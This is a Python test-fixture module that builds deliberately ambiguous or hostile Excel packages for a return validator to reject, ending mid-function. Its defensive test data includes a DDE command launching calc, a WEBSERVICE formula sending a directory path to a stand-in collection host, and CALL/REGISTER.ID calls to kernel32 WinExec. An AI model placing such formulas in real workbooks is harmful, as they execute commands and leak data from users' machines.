"""Returns that two programs (or a program and our reader) could read two ways, made from a
real filled return by editing its package part by part (issue 17, examples 1-7).

Each case is a class of the issue's examples and a way to build it: ``build(source, out)``
writes the file. ``CASES`` lists (name, example, expected finding code, (sheet, cell) or
None, builder). The cells are those of Melton's return (Gains!B8 holds 63.5, the Forecast
ratings are Red); example 7's cases change the County Council's Gains!B8.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lxml import etree

from helpers.excel_respelling import shared_strings
from helpers.ooxml import CT, MAIN, NS, PKG_REL, REL, Package

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
DDE = "cmd|' /C calc'!A0"
WEB = '_xlfn.WEBSERVICE("https://collect.example/?d="&INFO("directory"))'

Edit = Callable[[Package], None]


@dataclass(frozen=True)
class Case:
    name: str
    example: int  # the example (1-7) whose class this is
    code: str  # the finding the file must be refused with
    where: tuple[str, str] | None  # (sheet, cell) of that finding, when it has one
    edit: Edit
    base: str = "MELTON"

    def build(self, source: Path, out: Path) -> Path:
        pkg = Package(source)
        self.edit(pkg)
        return pkg.save(out)


# -- small edits ----------------------------------------------------------------------------


def _sheet(pkg: Package, name: str) -> tuple[str, etree._Element]:
    part = pkg.sheet_parts()[name]
    return part, pkg.xml(part)


def _edit_sheet(pkg: Package, name: str, change: Callable[[etree._Element], None]) -> None:
    part, root = _sheet(pkg, name)
    change(root)
    pkg.put(part, root)


def _el(tag: str, ns: str = MAIN, **attrs: str) -> etree._Element:
    return etree.Element(f"{{{ns}}}{tag}", **attrs)


def _after_data(root: etree._Element, *elements: etree._Element) -> None:
    data = root.find("m:sheetData", NS)
    for el in reversed(elements):
        data.addnext(el)


def _set_cell(pkg: Package, sheet: str, coord: str, xml: str) -> None:
    """Replace a cell's content with ``xml`` (children and, in a leading <c ...>, attributes)."""

    def change(root: etree._Element) -> None:
        old = pkg.cell(root, coord)
        new = etree.fromstring(f'<c xmlns="{MAIN}" r="{coord}" {xml}</c>')
        if old.get("s") and new.get("s") is None:
            new.set("s", old.get("s"))
        old.getparent().replace(old, new)

    _edit_sheet(pkg, sheet, change)


def _content_type(pkg: Package, part: str, content_type: str) -> None:
    root = pkg.xml("[Content_Types].xml")
    for el in root.findall("ct:Override", NS):
        if el.get("PartName") == "/" + part:
            el.set("ContentType", content_type)
    pkg.put("[Content_Types].xml", root)


def _package_rels(pkg: Package) -> etree._Element:
    return pkg.xml("_rels/.rels")


def _relate(
    pkg: Package,
    source: str,
    rel_type: str,
    target: str,
    rid: str | None = None,
    first: bool = False,
) -> None:
    name = Package.rels_name(source) if source else "_rels/.rels"
    root = pkg.xml(name)
    el = etree.Element(
        f"{{{PKG_REL}}}Relationship", Id=rid or f"rIdX{len(root) + 1}", Type=rel_type, Target=target
    )
    if first:
        root.insert(0, el)
    else:
        root.append(el)
    pkg.put(name, root)


def _copy_sheet(pkg: Package, sheet: str, new_part: str, coord: str, value: str) -> None:
    """A copy of a sheet's part with other figures: the decoy some reader could take instead."""
    part, root = _sheet(pkg, sheet)
    cell = pkg.cell(root, coord)
    for child in list(cell):
        cell.remove(child)
    cell.attrib.pop("t", None)
    etree.SubElement(cell, f"{{{MAIN}}}v").text = value
    pkg.put(new_part, root)
    pkg.add_content_type(new_part, content_type=SML + "worksheet+xml")


# -- example 1: a second workbook part, content types that disagree -------------------------


def _second_workbook(pkg: Package, demote: bool = True, keep_first: bool = False) -> None:
    """xl/book2.xml, a copy of the workbook whose Gains sheet says B8 = 1.5 (and holds a DDE
    formula), named the office document; [Content_Types].xml gives it the workbook type."""
    wb = pkg.workbook_part()
    pkg.parts["xl/book2.xml"] = pkg.parts[wb]
    rels = pkg.xml(Package.rels_name(wb))
    gains_part = pkg.sheet_parts()["Gains"]
    _copy_sheet(pkg, "Gains", "xl/worksheets/gains2.xml", "B8", "1.5")
    root = pkg.xml("xl/worksheets/gains2.xml")
    row = root.find("m:sheetData/m:row", NS)
    row.append(etree.fromstring(f'<c xmlns="{MAIN}" r="Z1"><f>{DDE}</f></c>'))
    pkg.put("xl/worksheets/gains2.xml", root)
    for rel in rels:
        if rel.get("Target").lstrip("/").endswith(gains_part.rsplit("/", 1)[1]):
            rel.set("Target", "/xl/worksheets/gains2.xml")
    pkg.put("xl/_rels/book2.xml.rels", rels)
    pkg.add_content_type("xl/book2.xml", content_type=SML + "sheet.main+xml")
    if demote:
        _content_type(pkg, wb, "application/xml")
    root = _package_rels(pkg)
    for rel in root:
        if rel.get("Type") == f"{REL}/officeDocument":
            if keep_first:
                root.append(
                    etree.Element(rel.tag, Id="rId99", Type=rel.get("Type"), Target="xl/book2.xml")
                )
            else:
                rel.set("Target", "xl/book2.xml")
    pkg.put("_rels/.rels", root)


def _default_typed_workbook(pkg: Package) -> None:
    """No Override for the workbook or the Gains sheet: every .xml part without one takes the
    workbook's type by default, so the sheet is declared a second workbook."""
    root = pkg.xml("[Content_Types].xml")
    for el in root.findall("ct:Override", NS):
        if el.get("PartName") in ("/" + pkg.workbook_part(), "/" + pkg.sheet_parts()["Gains"]):
            root.remove(el)
    for el in root.findall("ct:Default", NS):
        if el.get("Extension") == "xml":
            el.set("ContentType", SML + "sheet.main+xml")
    pkg.put("[Content_Types].xml", root)


def _two_overrides(pkg: Package) -> None:
    root = pkg.xml("[Content_Types].xml")
    root.append(
        etree.Element(
            f"{{{CT}}}Override", PartName="/" + pkg.workbook_part(), ContentType="application/xml"
        )
    )
    pkg.put("[Content_Types].xml", root)


def _sheet_by_unknown_type(pkg: Package) -> None:
    _copy_sheet(pkg, "Gains", "xl/worksheets/gains2.xml", "B8", "1.5")
    _relate(
        pkg,
        pkg.workbook_part(),
        "http://example.org/relationships/figures",
        "worksheets/gains2.xml",
        first=True,
    )


def _orphan_sheet_relationship(pkg: Package) -> None:
    _copy_sheet(pkg, "Gains", "xl/worksheets/gains2.xml", "B8", "1.5")
    _relate(pkg, pkg.workbook_part(), f"{REL}/worksheet", "worksheets/gains2.xml")


def _unreferenced_sheet(pkg: Package) -> None:
    _copy_sheet(pkg, "Gains", "xl/worksheets/sheet2.xml.bak.xml", "B8", "1.5")


def _outside_target(pkg: Package) -> None:
    root = _package_rels(pkg)
    for rel in root:
        if rel.get("Type") == f"{REL}/officeDocument":
            rel.set("Target", "../" + rel.get("Target"))
    pkg.put("_rels/.rels", root)


def _escaped_target(pkg: Package) -> None:
    rels = pkg.xml(Package.rels_name(pkg.workbook_part()))
    for rel in rels:
        if rel.get("Type") == f"{REL}/worksheet":
            rel.set("Target", rel.get("Target").replace("sheet", "%73heet"))
    pkg.put(Package.rels_name(pkg.workbook_part()), rels)


def _sheet_type_mismatch(pkg: Package) -> None:
    _content_type(pkg, pkg.sheet_parts()["Gains"], "application/xml")


# -- example 2: cells outside sheetData, markup compatibility -------------------------------


def _cell_in_ext(pkg: Package) -> None:
    ext = etree.fromstring(
        f'<extLst xmlns="{MAIN}"><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}">'
        '<c r="B8"><v>163.5</v></c></ext></extLst>'
    )
    _edit_sheet(pkg, "Gains", lambda root: root.append(ext))


def _row_in_ext(pkg: Package) -> None:
    ext = etree.fromstring(
        f'<extLst xmlns="{MAIN}"><ext uri="{{11111111-2222-3333-4444-555555555555}}">'
        '<sheetData><row r="8"><c r="B8"><v>163.5</v></c></row></sheetData></ext></extLst>'
    )
    _edit_sheet(pkg, "Gains", lambda root: root.append(ext))


def _alternate_sheet_data(pkg: Package) -> None:
    """mc:AlternateContent offering a program that 'understands' x14 other cells."""

    def change(root: etree._Element) -> None:
        data = root.find("m:sheetData", NS)
        alternate = etree.Element(f"{{{MC}}}AlternateContent", nsmap={"mc": MC, "x14": X14})
        choice = etree.SubElement(alternate, f"{{{MC}}}Choice", Requires="x14")
        other = etree.fromstring(etree.tostring(data))
        other.find("m:row/m:c[@r='B8']/m:v", NS).text = "163.5"
        choice.append(other)
        fallback = etree.SubElement(alternate, f"{{{MC}}}Fallback")
        data.addprevious(alternate)
        fallback.append(data)

    _edit_sheet(pkg, "Gains", change)


def _second_sheet_data(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        data = root.find("m:sheetData", NS)
        data.addnext(
            etree.fromstring(
                f'<sheetData xmlns="{MAIN}"><row r="8"><c r="B8"><v>163.5</v></c></row></sheetData>'
            )
        )

    _edit_sheet(pkg, "Gains", change)


def _process_content(pkg: Package) -> None:
    """An ignorable wrapper in a row, whose content mc:ProcessContent tells one program to read."""
    wrap_ns = "http://example.org/wrap"
    part, root = _sheet(pkg, "Gains")
    new = etree.Element(root.tag, nsmap={**root.nsmap, "mc": MC, "w": wrap_ns})
    for key, value in root.attrib.items():
        new.set(key, value)
    new.set(f"{{{MC}}}Ignorable", "w")
    new.set(f"{{{MC}}}ProcessContent", "w:wrap")
    new.extend(list(root))
    row = pkg.cell(new, "B8").getparent()
    wrap = etree.SubElement(row, f"{{{wrap_ns}}}wrap")
    wrap.append(etree.fromstring(f'<c xmlns="{MAIN}" r="C8"><v>163.5</v></c>'))
    pkg.put(part, new)


def _foreign_element_in_row(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        row = pkg.cell(root, "B8").getparent()
        row.append(
            etree.fromstring(
                '<x:c xmlns:x="http://example.org/other" r="C8"><x:v>163.5</x:v></x:c>'
            )
        )

    _edit_sheet(pkg, "Gains", change)


def _cell_twice(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        cell = pkg.cell(root, "B8")
        twin = etree.fromstring(etree.tostring(cell))
        twin.find("m:v", NS).text = "163.5"
        cell.addnext(twin)

    _edit_sheet(pkg, "Gains", change)


def _row_twice(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        row = pkg.cell(root, "B8").getparent()
        row.addnext(etree.fromstring(f'<row xmlns="{MAIN}" r="8"><c r="C8"><v>163.5</v></c></row>'))

    _edit_sheet(pkg, "Gains", change)


def _cell_in_wrong_row(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        row = pkg.cell(root, "A9").getparent()
        row.append(etree.fromstring(f'<c xmlns="{MAIN}" r="B8"><v>163.5</v></c>'))

    _edit_sheet(pkg, "Gains", change)


def _value_and_inline_text(pkg: Package) -> None:
    _set_cell(pkg, "Gains", "B8", 't="inlineStr"><v>63.5</v><is><t>163.5</t></is>')


def _odd_number(pkg: Package) -> None:
    """Python's float() reads 6_3.5 as 63.5, Calc as 6."""
    _set_cell(pkg, "Gains", "B8", "><v>6_3.5</v>")


def _odd_boolean(pkg: Package) -> None:
    _set_cell(pkg, "Gains", "B8", 't="b"><v>2</v>')


def _escaped_rating(pkg: Package) -> None:
    """A rating written '_x0047_reen': Excel shows Green, LibreOffice the escape as it is."""
    _set_cell(pkg, "Forecast", "B6", 't="inlineStr"><is><t>_x0047_reen</t></is>')


# -- example 3: two relationships with one Id ----------------------------------------------


def _duplicate_sheet_id(pkg: Package) -> None:
    """A second rId of the Gains sheet, pointing at a copy with other figures."""
    wb = pkg.workbook_part()
    gains_rid = next(
        s.get(f"{{{REL}}}id")
        for s in pkg.xml(wb).findall("m:sheets/m:sheet", NS)
        if s.get("name") == "Gains"
    )
    _copy_sheet(pkg, "Gains", "xl/worksheets/gains2.xml", "B8", "1.5")
    _relate(pkg, wb, f"{REL}/worksheet", "worksheets/gains2.xml", rid=gains_rid)


def _duplicate_package_id(pkg: Package) -> None:
    _relate(pkg, "", f"{REL}/extended-properties", "docProps/app.xml", rid="rId1")


def _two_shared_strings(pkg: Package) -> None:
    shared_strings(pkg)
    wb = pkg.workbook_part()
    sst = next(t for kind, t in pkg.relationships(wb).values() if kind.endswith("/sharedStrings"))
    pkg.parts["xl/strings2.xml"] = pkg.parts[sst]
    pkg.add_content_type("xl/strings2.xml", content_type=SML + "sharedStrings+xml")
    _relate(pkg, wb, f"{REL}/sharedStrings", "strings2.xml")


# -- example 4: a decoy table of text -------------------------------------------------------


def _decoy_strings(pkg: Package, declared: bool = False, related: bool = True) -> None:
    """The text table with Red swapped for Green, first in the workbook's relationships under
    a relationship type no program knows; the real one is reached by its proper type."""
    shared_strings(pkg)
    wb = pkg.workbook_part()
    sst = next(t for kind, t in pkg.relationships(wb).values() if kind.endswith("/sharedStrings"))
    pkg.parts["xl/sharedStrings0.xml"] = pkg.parts[sst].replace(b">Red<", b">Green<")
    if declared:
        pkg.add_content_type("xl/sharedStrings0.xml", content_type=SML + "sharedStrings+xml")
    if related:
        _relate(
            pkg, wb, "http://example.org/relationships/strings", "sharedStrings0.xml", first=True
        )


# -- example 5: formulas in input cells, in disguise ----------------------------------------

CASES_5 = {
    "shared-follower-without-master": (
        '><f t="shared" si="7"/><v>63.5</v>',
        "ambiguous-cell",
        "B8",
    ),
    "empty-formula": ("><f/><v>63.5</v>", "ambiguous-cell", "B8"),
    "formula-with-attributes-only": (
        '><f ca="1" aca="false"></f><v>63.5</v>',
        "ambiguous-cell",
        "B8",
    ),
    "data-table": (
        '><f t="dataTable" ref="B8:B8" dt2D="0" dtr="0" r1="A1"/><v>63.5</v>',
        "input-is-formula",
        "B8",
    ),
    "array-formula": (
        '><f t="array" ref="B8:B9">{63.5;53.7}</f><v>63.5</v>',
        "input-is-formula",
        "B9",
    ),
    "shared-formula-follower": (
        '><f t="shared" ref="B8:B9" si="7">63.5</f><v>63.5</v>',
        "input-is-formula",
        "B9",
    ),
    "formula-of-unknown-kind": ('><f t="magic">63.5</f><v>63.5</v>', "ambiguous-cell", "B8"),
}


def _input_formula(name: str) -> Edit:
    xml = CASES_5[name][0]

    def edit(pkg: Package) -> None:
        _set_cell(pkg, "Gains", "B8", xml)
        if name == "shared-formula-follower":
            _set_cell(pkg, "Gains", "B9", '><f t="shared" si="7"/><v>63.5</v>')

    return edit


# -- example 6: formulas that reach outside, wherever they stand ----------------------------

FORMULAS_6 = {
    "webservice": WEB,
    "rtd": 'RTD("collect.server",,"topic")',
    "unc-hyperlink": 'HYPERLINK("\\\\collect-host\\share\\x","Open")',
    "call": 'CALL("kernel32","WinExec","JCJ","calc",1)',
    "register-id": 'REGISTER.ID("kernel32","WinExec","JCJ")',
    "filterxml": 'FILTERXML("<a/>","//a")',
    "image": '_xlfn.IMAGE("https://collect.example/pixel.png")',
    "add-in-function": "_xll.COLLECT(1)",
    "lower-case-and-prefixes": '_xlfn._xlws.webservice("https://collect.example/")',
    "space-before-bracket": 'WEBSERVICE ("https://collect.example/")',
    "passed-by-name": "_xlfn.MAP(A1:A2,_xlfn.WEBSERVICE)",
    "another-workbook": "[1]Budget!A1",
    "network-path": "'\\\\collect-host\\share\\[budget.xlsx]Budget'!A1",
    "dde": DDE,
    "address-in-text": 'LEN("file://collect-host/share")',
}
CODES_6 = {"another-workbook": "external-link", "network-path": "external-link", "dde": "dde-link"}


def _in_meta(formula: str) -> Edit:
    def edit(pkg: Package) -> None:
        def change(root: etree._Element) -> None:
            data = root.find("m:sheetData", NS)
            data.append(
                etree.fromstring(
                    f'<row xmlns="{MAIN}" r="40"><c r="A40"><f>{_esc(formula)}</f></c></row>'
                )
            )

        _edit_sheet(pkg, "_meta", change)

    return edit


def _esc(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def _in_added_sheet(formula: str, name: str = "Validation results") -> Edit:
    def edit(pkg: Package) -> None:
        wb = pkg.workbook_part()
        part = "xl/worksheets/results.xml"
        pkg.parts[part] = (
            f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>{_esc(formula)}</f>'
            "</c></row></sheetData></worksheet>"
        ).encode()
        pkg.add_content_type(part, content_type=SML + "worksheet+xml")
        rid = pkg.add_relationship(wb, "worksheet", part)
        root = pkg.xml(wb)
        sheets = root.find("m:sheets", NS)
        ids = [int(s.get("sheetId")) for s in sheets]
        sheets.insert(
            0,
            etree.Element(
                f"{{{MAIN}}}sheet",
                {"name": name, "sheetId": str(max(ids) + 1), f"{{{REL}}}id": rid},
            ),
        )
        pkg.put(wb, root)

    return edit


def _in_conditional_format(formula: str) -> Edit:
    def edit(pkg: Package) -> None:
        block = etree.fromstring(
            f'<conditionalFormatting xmlns="{MAIN}" sqref="B8"><cfRule type="expression" '
            f'priority="9" dxfId="0"><formula>{_esc(formula)}</formula></cfRule>'
            "</conditionalFormatting>"
        )
        _edit_sheet(
            pkg,
            "Gains",
            lambda root: (
                _after_data(root, block)
                if root.find("m:sheetProtection", NS) is None
                else root.find("m:sheetProtection", NS).addnext(block)
            ),
        )

    return edit


def _in_validation(formula: str) -> Edit:
    def edit(pkg: Package) -> None:
        def change(root: etree._Element) -> None:
            validations = root.find("m:dataValidations", NS)
            rule = etree.SubElement(
                validations, f"{{{MAIN}}}dataValidation", type="custom", sqref="C9"
            )
            etree.SubElement(rule, f"{{{MAIN}}}formula1").text = formula

        _edit_sheet(pkg, "Gains", change)

    return edit


def _in_x14_validation(formula: str) -> Edit:
    def edit(pkg: Package) -> None:
        ext = etree.fromstring(
            f'<extLst xmlns="{MAIN}" xmlns:x14="{X14}" xmlns:xm="{XM}">'
            '<ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}">'
            f'<x14:dataValidations count="1"><x14:dataValidation type="list"><x14:formula1><xm:f>{_esc(formula)}'
            "</xm:f></x14:formula1><xm:sqref>C9</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>"
        )
        _edit_sheet(pkg, "Gains", lambda root: root.append(ext))

    return edit


def _in_defined_name(formula: str) -> Edit:
    def edit(pkg: Package) -> None:
        wb = pkg.workbook_part()
        root = pkg.xml(wb)
        names = root.find("m:definedNames", NS)
        el = etree.SubElement(
            names, f"{{{MAIN}}}definedName", name="_xlnm.Print_Area", localSheetId="1"
        )
        el.text = formula
        pkg.put(wb, root)

    return edit


def _in_chart(formula: str) -> Edit:
    """A chart on the Gains sheet whose series takes its values from ``formula``."""

    def edit(pkg: Package) -> None:
        chart_ns = "http://schemas.openxmlformats.org/drawingml/2006/chart"
        drawing_ns = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
        pkg.parts["xl/charts/chart1.xml"] = (
            f'<c:chartSpace xmlns:c="{chart_ns}"><c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef>'
            f"<c:f>{_esc(formula)}</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart>"
            "</c:chartSpace>"
        ).encode()
        pkg.add_content_type(
            "xl/charts/chart1.xml",
            content_type="application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
        )
        pkg.parts["xl/drawings/drawing1.xml"] = f'<xdr:wsDr xmlns:xdr="{drawing_ns}"/>'.encode()
        pkg.add_content_type(
            "xl/drawings/drawing1.xml",
            content_type="application/vnd.openxmlformats-officedocument.drawing+xml",
        )
        pkg.add_relationship("xl/drawings/drawing1.xml", "chart", "xl/charts/chart1.xml")
        gains = pkg.sheet_parts()["Gains"]
        rid = pkg.add_relationship(gains, "drawing", "xl/drawings/drawing1.xml")
        _edit_sheet(
            pkg,
            "Gains",
            lambda root: root.append(etree.Element(f"{{{MAIN}}}drawing", {f"{{{REL}}}id": rid})),
        )

    return edit


def _pivot_source(kind: str) -> Edit:
    """A pivot cache whose data comes from a connection, or from another file's cells."""

    def edit(pkg: Package) -> None:
        source = (
            '<cacheSource type="external" connectionId="1"/>'
            if kind == "connection"
            else f'<cacheSource type="worksheet"><worksheetSource xmlns:r="{REL}" ref="A1:B2" sheet="S" r:id="rId1"/>'
            "</cacheSource>"
        )
        pkg.parts["xl/pivotCache/pivotCacheDefinition1.xml"] = (
            f'<pivotCacheDefinition xmlns="{MAIN}">{source}<cacheFields count="0"/></pivotCacheDefinition>'
        ).encode()
        pkg.add_content_type(
            "xl/pivotCache/pivotCacheDefinition1.xml", content_type=SML + "pivotCacheDefinition+xml"
        )
        pkg.add_relationship(
            pkg.workbook_part(), "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml"
        )

    return edit


PLACES_6 = {
    "meta": _in_meta,
    "added-sheet": _in_added_sheet,
    "conditional-format": _in_conditional_format,
    "validation": _in_validation,
    "x14-validation": _in_x14_validation,
    "defined-name": _in_defined_name,
    "chart": _in_chart,
}


# -- example 7: what an input shows ---------------------------------------------------------


def _styled(code: str | None = None, value: str = "39945", font: str | None = None) -> Edit:
    """The County Council's Gains!B8 holding ``value`` with its own cell format: the number
    format ``code`` (a new one, as Excel adds it) and/or a font colour."""

    def edit(pkg: Package) -> None:
        styles_part = next(
            t
            for kind, t in pkg.relationships(pkg.workbook_part()).values()
            if kind.endswith("/styles")
        )
        root = pkg.xml(styles_part)
        part, sheet = _sheet(pkg, "Gains")
        cell = pkg.cell(sheet, "B8")
        xfs = root.find("m:cellXfs", NS)
        xf = etree.fromstring(etree.tostring(xfs[int(cell.get("s", "0"))]))
        if code is not None:
            formats = root.find("m:numFmts", NS)
            number = str(max(int(f.get("numFmtId")) for f in formats) + 1)
            formats.append(etree.Element(f"{{{MAIN}}}numFmt", numFmtId=number, formatCode=code))
            xf.set("numFmtId", number)
        if font is not None:
            fonts = root.find("m:fonts", NS)
            fonts.append(
                etree.fromstring(
                    f'<font xmlns="{MAIN}"><color rgb="FF{font}"/><sz val="11"/></font>'
                )
            )
            xf.set("fontId", str(len(fonts) - 1))
        xfs.append(xf)
        pkg.put(styles_part, root)
        cell.set("s", str(len(xfs) - 1))
        for child in list(cell):
            cell.remove(child)
        cell.attrib.pop("t", None)
        etree.SubElement(cell, f"{{{MAIN}}}v").text = value
        pkg.put(part, sheet)

    return edit


def _merged_over(pkg: Package) -> None:
    def change(root: etree._Element) -> None:
        merged = etree.fromstring(
            f'<mergeCells xmlns="{MAIN}" count="1"><mergeCell ref="A8:B8"/></mergeCells>'
        )
        protection = root.find("m:sheetProtection", NS)
        (protection if protection is not None else root.find("m:sheetData", NS)).addnext(merged)

    _edit_sheet(pkg, "Gains", change)


def _bar_instead(pkg: Package) -> None:
    block = etree.fromstring(
        f'<conditionalFormatting xmlns="{MAIN}" sqref="B8:B14"><cfRule type="dataBar" '
        'priority="9"><dataBar showValue="0"><cfvo type="min"/><cfvo type="max"/>'
        '<color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>'
    )
    _edit_sheet(pkg, "Gains", lambda root: root.find("m:sheetProtection", NS).addnext(block))


def _format_by_condition(pkg: Package) -> None:
    styles_part = next(
        t for kind, t in pkg.relationships(pkg.workbook_part()).values() if kind.endswith("/styles")
    )
    root = pkg.xml(styles_part)
    dxfs = root.find("m:dxfs", NS)
    dxfs.append(
        etree.fromstring(
            f'<dxf xmlns="{MAIN}"><numFmt numFmtId="200" formatCode="dd/mm/yyyy"/></dxf>'
        )
    )
    pkg.put(styles_part, root)
    block = etree.fromstring(
        f'<conditionalFormatting xmlns="{MAIN}" sqref="B8"><cfRule type="expression" '
        f'priority="9" dxfId="{len(dxfs) - 1}"><formula>TRUE</formula></cfRule>'
        "</conditionalFormatting>"
    )
    _edit_sheet(pkg, "Gains", lambda root: root.find("m:sheetProtection", NS).addnext(block))


def _cases() -> list[Case]:
    out = [
        Case("second-workbook-part", 1, "ambiguous-package", None, _second_workbook),
        Case(
            "two-office-documents",
            1,
            "ambiguous-package",
            None,
            lambda pkg: _second_workbook(pkg, demote=False, keep_first=True),
        ),
        Case(
            "workbook-demoted-to-xml",
            1,
            "ambiguous-package",
            None,
            lambda pkg: _content_type(pkg, pkg.workbook_part(), "application/xml"),
        ),
        Case("workbook-typed-by-default", 1, "ambiguous-package", None, _default_typed_workbook),
        Case("two-content-types-for-the-workbook", 1, "ambiguous-package", None, _two_overrides),
        Case("sheet-declared-as-plain-xml", 1, "ambiguous-package", None, _sheet_type_mismatch),
        Case(
            "sheet-copy-under-an-unknown-type", 1, "ambiguous-package", None, _sheet_by_unknown_type
        ),
        Case(
            "sheet-relationship-no-sheet-uses",
            1,
            "ambiguous-package",
            None,
            _orphan_sheet_relationship,
        ),
        Case("sheet-part-nothing-reaches", 1, "ambiguous-package", None, _unreferenced_sheet),
        Case("workbook-outside-the-file", 1, "ambiguous-package", None, _outside_target),
        Case("sheet-name-escaped", 1, "ambiguous-package", None, _escaped_target),
        Case("cell-in-an-extension", 2, "ambiguous-cell", ("Gains", "B8"), _cell_in_ext),
        Case("rows-in-an-extension", 2, "ambiguous-cell", ("Gains", "B8"), _row_in_ext),
        Case(
            "alternate-content-around-the-cells",
            2,
            "ambiguous-package",
            None,
            _alternate_sheet_data,
        ),
        Case("second-sheet-data", 2, "ambiguous-cell", ("Gains", ""), _second_sheet_data),
        Case("process-content", 2, "ambiguous-package", None, _process_content),
        Case(
            "cell-of-another-namespace",
            2,
            "ambiguous-cell",
            ("Gains", "A8"),
            _foreign_element_in_row,
        ),
        Case("cell-given-twice", 2, "ambiguous-cell", ("Gains", "B8"), _cell_twice),
        Case("row-given-twice", 2, "ambiguous-cell", ("Gains", ""), _row_twice),
        Case("cell-in-another-row", 2, "ambiguous-cell", ("Gains", "B8"), _cell_in_wrong_row),
        Case("value-and-inline-text", 2, "ambiguous-cell", ("Gains", "B8"), _value_and_inline_text),
        Case("number-with-an-underscore", 2, "ambiguous-cell", ("Gains", "B8"), _odd_number),
        Case("boolean-two", 2, "ambiguous-cell", ("Gains", "B8"), _odd_boolean),
        Case("escaped-letter-in-text", 2, "ambiguous-cell", ("Forecast", "B6"), _escaped_rating),
        Case("two-relationships-one-id", 3, "ambiguous-package", None, _duplicate_sheet_id),
        Case("package-relationships-one-id", 3, "ambiguous-package", None, _duplicate_package_id),
        Case("two-text-tables", 3, "ambiguous-package", None, _two_shared_strings),
        Case("decoy-text-table-unknown-type", 4, "ambiguous-package", None, _decoy_strings),
        Case(
            "decoy-text-table-declared",
            4,
            "ambiguous-package",
            None,
            lambda pkg: _decoy_strings(pkg, declared=True),
        ),
        Case(
            "decoy-text-table-unreferenced",
            4,
            "ambiguous-package",
            None,
            lambda pkg: _decoy_strings(pkg, related=False),
        ),
    ]
    out += [
        Case(f"input-{name}", 5, code, ("Gains", cell), _input_formula(name))
        for name, (_, code, cell) in CASES_5.items()
    ]
    for place, make in PLACES_6.items():
        for name, formula in FORMULAS_6.items():
            out.append(
                Case(
                    f"{name}-in-{place}",
                    6,
                    CODES_6.get(name, "outward-formula"),
                    None,
                    make(formula),
                )
            )
    out += [
        Case(
            "pivot-table-from-a-connection", 6, "data-connection", None, _pivot_source("connection")
        ),
        Case("pivot-table-from-another-file", 6, "external-link", None, _pivot_source("file")),
    ]
    out += [
        Case(
            "date-in-a-money-cell",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled("dd/mm/yyyy"),
            "LCC",
        ),
        Case(
            "hidden-by-format",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled(";;;", "2790.2"),
            "LCC",
        ),
        Case(
            "scaled-by-format",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled("#,##0.0,,", "2790200000"),
            "LCC",
        ),
        Case(
            "literal-figure-in-format",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled('"2,790.2"', "1.5"),
            "LCC",
        ),
        Case(
            "percent-format",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled("0.0%", "27.902"),
            "LCC",
        ),
        Case(
            "text-format", 7, "input-format-changed", ("Gains", "B8"), _styled("@", "2790.2"), "LCC"
        ),
        Case(
            "coloured-format",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _styled("[White]#,##0.0;[Red]-#,##0.0", "2790.2"),
            "LCC",
        ),
        Case(
            "white-text",
            7,
            "input-hidden",
            ("Gains", "B8"),
            _styled(None, "2790.2", font="FFFFFF"),
            "LCC",
        ),
        Case("merged-over", 7, "input-hidden", ("Gains", "B8"), _merged_over, "LCC"),
        Case("bar-in-place-of-the-value", 7, "input-hidden", ("Gains", "B8"), _bar_instead, "LCC"),
        Case(
            "date-format-by-condition",
            7,
            "input-format-changed",
            ("Gains", "B8"),
            _format_by_condition,
            "LCC",
        ),
    ]
    return out


CASES = _cases()
assert len({c.name for c in CASES}) == len(CASES)


# -- accepted: unusual spellings that every program reads the same way ----------------------


def _without_addresses(pkg: Package) -> None:
    """Row 8's cells without their r attribute (each is the cell after the one before), and
    row 9 without its number (the row after row 8)."""

    def change(root: etree._Element) -> None:
        row = pkg.cell(root, "B8").getparent()
        for c in row:
            del c.attrib["r"]
        row.getnext().attrib.pop("r")

    _edit_sheet(pkg, "Gains", change)


ESCAPED_TEXT = "Gap to target_x000D_\nplans:_x0009_none; see _x005F_x0041_"
UNESCAPED_TEXT = "Gap to target\nplans:\tnone; see _x0041_"  # as Excel and Calc show it


def _texts(pkg: Package) -> None:
    """Text written three other ways: with _xHHHH_ escapes, in rich-text runs, with a
    phonetic hint (which is not text)."""

    def forecast(root: etree._Element) -> None:
        cell = pkg.cell(
            root, "C6"
        )  # a carriage return and a tab, and text that looks like an escape
        cell.find("m:is/m:t", NS).text = ESCAPED_TEXT
        runs = pkg.cell(root, "C7")
        words = runs.find("m:is/m:t", NS).text.split(" ", 1)
        runs.find("m:is", NS).clear()
        for i, part in enumerate((words[0] + " ", words[1])):
            run = etree.SubElement(runs.find("m:is", NS), f"{{{MAIN}}}r")
            if i:
                etree.SubElement(etree.SubElement(run, f"{{{MAIN}}}rPr"), f"{{{MAIN}}}b")
            etree.SubElement(run, f"{{{MAIN}}}t").text = part

    _edit_sheet(pkg, "Forecast", forecast)

    def signoff(root: etree._Element) -> None:
        inline = pkg.cell(root, "B6").find("m:is", NS)
